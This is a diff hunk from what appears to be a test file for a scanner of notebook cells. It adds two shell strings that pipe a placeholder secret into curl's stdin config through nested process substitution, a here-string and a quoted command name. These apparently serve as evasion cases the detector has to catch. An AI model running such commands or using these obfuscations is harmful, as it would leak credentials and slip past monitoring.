@@ -44,6 +44,9 @@ SECRET = "S3CRETxyz"
         f"%%bash\nx=$(echo 'user = u:{SECRET}' | # note )\n curl -K -)\n",
         f"!x=$(echo $(date) 'user = u:{SECRET}' | curl -K -)",
         f"!x=$(echo $(date) $(id -u) 'user = u:{SECRET}' | curl -K - https://x)",
+        # (found after: a process substitution read inside another, curl's name quoted)
+        f"!curl -K - < <(cat < <(echo 'user = u:{SECRET}'))",
+        f"!\"$(which curl)\" -K - <<< 'user = u:{SECRET}'",
         # backticks counted across the command, not per line
         f"%%bash\ny=`echo a\nb` ; x=`echo 'user = u:{SECRET}' | curl -K -`\n",
     ],
